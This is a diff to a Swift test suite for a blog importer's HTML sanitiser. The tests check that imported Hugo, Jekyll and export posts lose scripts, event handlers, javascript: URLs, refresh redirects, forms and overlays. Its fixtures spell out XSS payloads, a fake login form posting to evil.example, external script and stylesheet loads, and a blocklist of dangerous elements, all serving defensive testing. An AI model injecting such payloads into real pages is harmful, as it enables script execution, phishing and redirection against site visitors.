@@ -94,11 +94,10 @@ final class SanitizingImportTests: XCTestCase {
             #"line 14: Post 2: srcset="data:text/html,x" on <img>"#,
             "line 24: Post 3: onload on <svg>",
             #"line 24: Post 3: xlink:href="javascript:alert(6)" on <a>"#,
-            #"line 24: Post 3: action="javascript:alert(7)" on <form>"#,
-            #"line 24: Post 3: formaction="javascript:alert(8)" on <button>"#,
+            #"line 24: Post 3: <form action="javascript:alert(7)">"#,
             "line 24: Post 3: onload on <iframe>",
         ])
-        XCTAssertTrue(report.lines.contains { $0.hasPrefix("Removed 11 event handlers or script URLs") }, "\(report.lines)")
+        XCTAssertTrue(report.lines.contains { $0.hasPrefix("Removed 10 elements or attributes of imported HTML") }, "\(report.lines)")
 
         let output = root.appendingPathComponent("public")
         // The posts' image, which an import with its uploads folder would have copied.
@@ -109,10 +108,82 @@ final class SanitizingImportTests: XCTestCase {
         for file in built.files where file.path.hasSuffix(".html") || file.path.hasSuffix(".xml") {
             let text = String(decoding: file.contents, as: UTF8.self)
             XCTAssertFalse(text.lowercased().contains("javascript:") || text.lowercased().contains("vbscript:"), file.path)
-            XCTAssertEqual(Self.scripts(inBuiltHTML: text), [], file.path)
+            // The theme's own head (its stylesheet, its script) and a redirect's refresh are not the posts'.
+            let body = text.range(of: "<main").flatMap { start in text.range(of: "</main>").map { String(text[start.lowerBound..<$0.upperBound]) } }
+            XCTAssertEqual(Self.scripts(inBuiltHTML: body ?? text, elementsToo: body != nil), [], file.path)
         }
         let post = String(decoding: try XCTUnwrap(built.files.first { $0.path == "2020/01/post-1/index.html" }).contents, as: UTF8.self)
         XCTAssertTrue(post.contains("Hello there"), "the link's text stays, without the link")
+    }
+
+    /// What navigates, submits, loads a style sheet or covers the page goes with what would run,
+    /// each named in the report; a harmless style stays.
+    func testScriptsRefreshesFormsAndStylesAreRemoved() {
+        let html = #"<p>Before</p><script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://evil.example/">"#
+            + #"<base href="https://evil.example/"><form action="https://evil.example/"><input type="password" name="p"><button>Log in</button></form>"#
+            + #"<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css);</style>"#
+            + #"<div style="position:fixed;inset:0;z-index:99999;background:white">Overlay</div><p style="text-align:center">After</p>"#
+            + #"<p><span style="pos/**/ition:fixed">hidden</span><script src="https://evil.example/x.js"></script><object data="/x.swf"></object></p>"#
+        let conversion = HTMLToMarkdown().convert(html)
+        XCTAssertEqual(conversion.markdown, "Before\n\nOverlay\n\n<p style=\"text-align:center\">After</p>\n\nhidden\n")
+        XCTAssertEqual(conversion.removals.map(\.description), [
+            "<script>", #"<meta http-equiv="refresh" content="0;url=https://evil.example/">"#, #"<base href="https://evil.example/">"#,
+            #"<form action="https://evil.example/">"#, #"<link rel="stylesheet" href="https://evil.example/x.css">"#, "<style>",
+            #"style="position:fixed;inset:0;z-index:99999;bac…" on <div>"#, #"style="pos/**/ition:fixed" on <span>"#,
+            #"<script src="https://evil.example/x.js">"#, #"<object data="/x.swf">"#,
+        ])
+        assertNothingRuns(html)
+    }
+
+    /// Raw HTML in a Hugo or Jekyll post reaches the page as written: it is cleaned as an
+    /// export's HTML is, its embeds become shortcodes, and code stays code.
+    func testRawHTMLInImportedMarkdownIsCleanedToo() {
+        let markdown = "Hi <img src=\"/a.png\" onerror=\"alert(1)\"> and <a href=\" JaVaScRiPt:alert(2)\" title=\"t\">this</a>.\n\n"
+            + "<script>alert(3)</script>\n\n<iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\"></iframe>\n\n"
+            + "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n\n"
+            + "Code `<script>alert(4)</script>` stays:\n\n```html\n<img src=x onerror=alert(5)>\n```\n"
+        let cleaned = ImportedMarkdownHTML.clean(markdown)
+        XCTAssertEqual(cleaned.markdown, "Hi <img src=\"/a.png\"> and <a title=\"t\">this</a>.\n\n\n\n{{< youtube dQw4w9WgXcQ >}}\n\n\n\n"
+            + "Code `<script>alert(4)</script>` stays:\n\n```html\n<img src=x onerror=alert(5)>\n```\n")
+        XCTAssertEqual(cleaned.removals.map { "\($0.line): \($0.removal)" }, [
+            "1: onerror on <img>", #"1: href=" JaVaScRiPt:alert(2)" on <a>"#, "3: <script>",
+            #"7: <meta http-equiv="refresh" content="0;url=https://evil.example/">"#,
+        ])
+    }
+
+    /// The whole way for Hugo and Jekyll: their posts' hostile HTML is gone from the files the
+    /// import writes and from every page built from them, and the report names it at its line.
+    func testHugoAndJekyllPostsRunNoScriptAfterImport() throws {
+        let root = try Fixture.temporaryDirectory()
+        let site = root.appendingPathComponent("site")
+        try FileManager.default.createDirectory(at: site, withIntermediateDirectories: true)
+        try FileManager.default.copyItem(at: Fixture.site("import/site/content"), to: site.appendingPathComponent("content"))
+        func write(_ path: String, _ text: String) throws {
+            let url = root.appendingPathComponent(path)
+            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
+            try Data(text.utf8).write(to: url)
+        }
+        let body = "Hi <img src=\"/a.png\" onerror=\"alert(1)\"> and [x](/y).\n\n<script>alert(2)</script>\n\n"
+            + "<a href=\"javascript:alert(3)\">link</a> <details ontoggle=\"alert(4)\" open>d</details>\n\n"
+            + "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n"
+        try write("hugo/hugo.toml", "title = \"H\"\n")
+        try write("hugo/content/posts/hostile.md", "+++\ntitle = \"Hostile\"\ndate = 2020-01-01\n+++\n" + body)
+        try write("jekyll/_config.yml", "title: J\n")
+        try write("jekyll/_posts/2020-01-02-hostile-too.md", "---\ntitle: Hostile too\n---\n" + body)
+        let hugo = try SiteImporter(siteRoot: site).run(root.appendingPathComponent("hugo"), format: .hugo)
+        let jekyll = try SiteImporter(siteRoot: site).run(root.appendingPathComponent("jekyll"), format: .jekyll)
+        XCTAssertEqual(hugo.removedFromHTML.first, "content/posts/hostile.md:5: Hostile: onerror on <img>")
+        XCTAssertEqual(jekyll.removedFromHTML.count, 5, "\(jekyll.removedFromHTML)")
+        for path in hugo.written + jekyll.written {
+            let text = try String(contentsOf: site.appendingPathComponent(path), encoding: .utf8)
+            XCTAssertEqual(Self.scripts(inBuiltHTML: text), [], path)
+        }
+        let built = try SiteBuild(options: Fixture.options(source: site, output: root.appendingPathComponent("public"))).run()
+        for file in built.files where file.path.hasSuffix(".html") {
+            let text = String(decoding: file.contents, as: UTF8.self)
+            guard let start = text.range(of: "<main"), let end = text.range(of: "</main>") else { continue }
+            XCTAssertEqual(Self.scripts(inBuiltHTML: String(text[start.lowerBound..<end.upperBound])), [], file.path)
+        }
     }
 
     /// Another change decides what becomes of embeds; until then they are imported as they were.
@@ -158,12 +229,19 @@ extension SanitizingImportTests {
         }
     }
 
-    /// Every attribute of `html` that a browser would run, read without the sanitiser's own rules:
-    /// any `on…` name, and any value that has a script scheme once spaces, controls and case are gone.
-    static func scripts(inBuiltHTML html: String) -> [String] {
+    /// Every element and attribute of `html` that a browser would run, or that would navigate,
+    /// submit or restyle the page, read without the sanitiser's own rules: those elements, any
+    /// `on…` name, any value that has a script scheme once spaces, controls and case are gone, and
+    /// a fixed box.
+    static func scripts(inBuiltHTML html: String, elementsToo: Bool = true) -> [String] {
+        let elements: Set = elementsToo ? ["script", "meta", "base", "form", "input", "link", "style", "object", "embed"] : []
         func scan(_ nodes: [MarkupNode]) -> [String] {
             nodes.flatMap { node -> [String] in
                 guard case .element(let element) = node else { return [] }
+                if elements.contains(element.name) { return [element.startTag] }
+                if let style = element[attribute: "style"], style.replacingOccurrences(of: " ", with: "").contains("position:fixed") {
+                    return [element.startTag]
+                }
                 let found = element.attributes.compactMap { attribute -> String? in
                     let squeezed = String(attribute.value.unicodeScalars.filter { $0.value > 0x20 && !$0.properties.isWhitespace }
                         .map(Character.init)).lowercased()
